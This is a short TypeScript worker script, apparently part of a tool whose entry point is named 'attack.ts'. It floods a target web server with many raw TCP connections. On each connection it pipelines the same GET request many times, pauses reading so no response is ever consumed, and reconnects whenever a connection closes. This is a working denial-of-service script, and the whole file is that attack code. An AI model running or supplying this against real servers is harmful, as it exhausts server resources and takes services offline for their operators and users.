// Asks for a file many times on each connection without reading an answer. Started by attack.ts with its options.
import { connect } from "node:net";

export type UnreadOptions = { url: string; sockets: number; files: number };

const { url, sockets, files } = JSON.parse(process.argv[2] ?? "") as UnreadOptions;
const { hostname, port, pathname } = new URL(url);
const requests = `GET ${pathname} HTTP/1.1\r\nhost: ${hostname}\r\n\r\n`.repeat(files);

function ask(): void {
  const socket = connect({ host: hostname, port: Number(port) });
  socket.pause();
  socket.once("error", () => {}).once("close", ask);
  socket.write(requests);
}

for (let nth = 0; nth < sockets; nth += 1) ask();
